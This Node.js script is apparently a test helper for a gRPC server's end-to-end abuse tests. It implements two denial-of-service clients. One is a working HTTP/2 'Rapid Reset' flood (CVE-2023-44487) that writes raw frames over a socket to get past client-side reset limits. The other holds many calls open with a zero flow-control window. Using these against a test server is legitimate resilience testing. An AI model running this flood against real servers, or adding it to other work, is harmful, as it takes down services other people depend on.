'use strict';
// Abusive HTTP/2 clients for tests/e2e/abuse_e2e_test.cc, written with Node's
// built-in http2 module (no gRPC library: these clients break the rules a
// gRPC library keeps). Prints one JSON line with what it did, on stdout.
//
//   node h2_abuse.js flood  ADDRESS CONNECTIONS SECONDS
//     "Rapid reset" (CVE-2023-44487): on each connection, as fast as the
//     server takes the bytes, opens a GetSyncJob stream (HEADERS + a
//     gRPC-framed request) and resets it at once (RST_STREAM CANCEL), so the
//     server never has more than a few streams open at a time however low
//     its concurrent-stream limit. Reconnects when the server closes the
//     connection.
//
//   node h2_abuse.js unread ADDRESS CALLS PAGE_SIZE HOLD_SECONDS
//     CALLS ListSyncJobs(page_size) calls whose client never reads: every
//     connection announces a flow-control window of 0, so the server can send
//     no DATA. Spread over connections of 50 streams each (the server may
//     allow fewer at once; those wait). Holds them HOLD_SECONDS, then closes.
//     Reports how the calls ended while held: their grpc-status (e.g. 8,
//     RESOURCE_EXHAUSTED, from the server's response budget; 1, CANCELLED,
//     from its delivery timeout), or a reset from the server.

const http2 = require('node:http2');

const [mode, address, ...rest] = process.argv.slice(2);
if (!mode || !address) {
  console.error('usage: h2_abuse.js flood|unread ADDRESS ...');
  process.exit(2);
}
const url = `http://${address}`;

function grpcFrame(payload) {
  const frame = Buffer.alloc(5 + payload.length);
  frame.writeUInt8(0, 0);
  frame.writeUInt32BE(payload.length, 1);
  payload.copy(frame, 5);
  return frame;
}

function varint(n) {
  const out = [];
  while (n > 0x7f) {
    out.push((n & 0x7f) | 0x80);
    n >>>= 7;
  }
  out.push(n);
  return Buffer.from(out);
}

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

function headersFor(path) {
  return {
    ':method': 'POST',
    ':path': path,
    'content-type': 'application/grpc',
    te: 'trailers',
  };
}

// One HTTP/2 frame: 9-byte header, then the payload.
function frame(type, flags, streamId, payload) {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(streamId, 5);
  return Buffer.concat([header, payload]);
}

// HPACK "literal header field without indexing, new name", no Huffman.
function literal(name, value) {
  const n = Buffer.from(name);
  const v = Buffer.from(value);
  return Buffer.concat([Buffer.from([0x00, n.length]), n, Buffer.from([v.length]), v]);
}

// The flood speaks HTTP/2 on a bare socket: Node's http2 (nghttp2) limits
// how fast it lets its own side reset streams, and the point is a client
// that does not. It answers SETTINGS and PING, ignores everything else.
async function flood(connections, seconds) {
  const net = require('node:net');
  const [host, port] = [address.slice(0, address.lastIndexOf(':')), address.slice(address.lastIndexOf(':') + 1)];
  // GetSyncJobRequest{name: "syncJobs/<uuid>"}: field 1, length-delimited.
  const name = Buffer.from('syncJobs/00000000-0000-4000-8000-000000000000');
  const body = grpcFrame(Buffer.concat([Buffer.from([0x0a, name.length]), name]));
  const headerBlock = Buffer.concat([
    Buffer.from([0x83, 0x86]), // :method POST, :scheme http (static table)
    literal(':path', '/blueprintsync.v1.BlueprintSync/GetSyncJob'),
    literal(':authority', address),
    literal('content-type', 'application/grpc'),
    literal('te', 'trailers'),
  ]);
  const rst = Buffer.alloc(4);
  rst.writeUInt32BE(0x8, 0); // CANCEL
  const stats = { streams: 0, connections: 0, goaways: 0, socket_errors: 0 };
  const end = Date.now() + seconds * 1000;

  function oneSession() {
    return new Promise((resolve) => {
      const socket = net.connect({ host, port });
      stats.connections++;
      let buffered = Buffer.alloc(0);
      let open = true;
      let nextId = 1;
      const finish = () => { if (open) { open = false; socket.destroy(); resolve(); } };
      socket.on('error', () => { stats.socket_errors++; finish(); });
      socket.on('close', finish);
      socket.on('data', (d) => {
        buffered = Buffer.concat([buffered, d]);
        while (buffered.length >= 9) {
          const len = buffered.readUIntBE(0, 3);
          if (buffered.length < 9 + len) break;
          const type = buffered.readUInt8(3);
          const flags = buffered.readUInt8(4);
          const payload = buffered.subarray(9, 9 + len);
          if (type === 0x4 && !(flags & 0x1)) socket.write(frame(0x4, 0x1, 0, Buffer.alloc(0)));
          if (type === 0x6 && !(flags & 0x1)) socket.write(frame(0x6, 0x1, 0, Buffer.from(payload)));
          if (type === 0x7) { stats.goaways++; finish(); }
          buffered = buffered.subarray(9 + len);
        }
      });
      socket.on('connect', () => {
        socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
          frame(0x4, 0, 0, Buffer.alloc(0))]));
        const burst = () => {
          if (!open) return;
          if (Date.now() >= end) { finish(); return; }
          const frames = [];
          for (let i = 0; i < 100 && nextId < 0x7fffffff; i++, nextId += 2) {
            frames.push(frame(0x1, 0x4, nextId, headerBlock)); // HEADERS, END_HEADERS
            frames.push(frame(0x0, 0x1, nextId, body));        // DATA, END_STREAM
            frames.push(frame(0x3, 0x0, nextId, rst));         // RST_STREAM CANCEL
            stats.streams++;
          }
          if (socket.write(Buffer.concat(frames))) setImmediate(burst);
          else socket.once('drain', burst);
        };
        burst();
      });
    });
  }
  async function oneConnection() {
    while (Date.now() < end) {
      await oneSession();
      if (Date.now() < end) await sleep(10);
    }
  }
  await Promise.all(Array.from({ length: connections }, oneConnection));
  return stats;
}

async function unread(calls, pageSize, holdSeconds) {
  const body = grpcFrame(Buffer.concat([Buffer.from([0x08]), varint(pageSize)]));
  const perConnection = 50;
  const stats = {
    calls, started: 0, headers: 0, data_bytes: 0, statuses: {}, server_resets: 0,
    session_errors: 0,
  };
  const sessions = [];
  for (let opened = 0; opened < calls; opened += perConnection) {
    const session = http2.connect(url, { settings: { initialWindowSize: 0, enablePush: false } });
    session.on('error', () => { stats.session_errors++; });
    sessions.push(session);
    // The connection-level window is separate from the streams' (and only
    // grows by WINDOW_UPDATE): make it 0 too by never sending any; Node
    // starts it at 65535 bytes, so up to that much DATA can still arrive.
    for (let i = opened; i < Math.min(calls, opened + perConnection); i++) {
      const stream = session.request(headersFor('/blueprintsync.v1.BlueprintSync/ListSyncJobs'));
      stats.started++;
      stream.on('error', () => {});
      const noteStatus = (code) => { stats.statuses[code] = (stats.statuses[code] || 0) + 1; };
      stream.on('response', (h) => {
        stats.headers++;
        // A trailers-only answer (an error) has its status in the headers.
        if (h['grpc-status'] !== undefined) noteStatus(h['grpc-status']);
      });
      stream.on('trailers', (t) => noteStatus(t['grpc-status'] || 'none'));
      stream.on('data', (d) => { stats.data_bytes += d.length; });
      stream.on('close', () => {
        if (stream.rstCode && stream.rstCode !== http2.constants.NGHTTP2_NO_ERROR) {
          stats.server_resets++;
        }
      });
      // Never read: paused, and the window stays 0 anyway.
      stream.pause();
      stream.end(body);
    }
  }
  await sleep(holdSeconds * 1000);
  for (const s of sessions) s.destroy();
  return stats;
}

(async () => {
  let result;
  if (mode === 'flood') {
    result = await flood(Number(rest[0] || 1), Number(rest[1] || 5));
  } else if (mode === 'unread') {
    result = await unread(Number(rest[0] || 1000), Number(rest[1] || 1000), Number(rest[2] || 10));
  } else {
    console.error(`unknown mode ${mode}`);
    process.exit(2);
  }
  console.log(JSON.stringify(result));
  process.exit(0);
})().catch((e) => {
  console.error(e && e.stack ? e.stack : String(e));
  process.exit(1);
});
